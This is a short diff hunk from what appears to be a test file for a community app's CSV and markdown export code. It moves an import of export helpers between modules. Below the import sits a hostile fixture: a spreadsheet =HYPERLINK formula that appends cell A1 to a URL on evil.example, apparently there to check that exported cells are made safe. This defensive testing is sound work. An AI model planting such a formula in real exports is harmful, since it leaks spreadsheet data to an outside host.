@@ -16,12 +16,12 @@ from community.analytics.reports import VIEWS
 from community.analytics.views import EXPORT_COLUMNS
 from community.brainstorms import operations as brainstorms
 from community.brainstorms.models import BrainstormSession, Phase
-from community.exports import FORMULA_STARTS, csv_text, markdown_text, safe_cell
 from community.extensions import db
 from community.ideas.models import Idea
 from community.knowledge import operations as knowledge
 from community.permissions import Role
 from community.spaces.models import Space, SpaceRole
+from community.web.exports import FORMULA_STARTS, csv_text, markdown_text, safe_cell
 
 HOSTILE = {
     "idea": '=HYPERLINK("http://evil.example/?x="&A1,"Open report")',
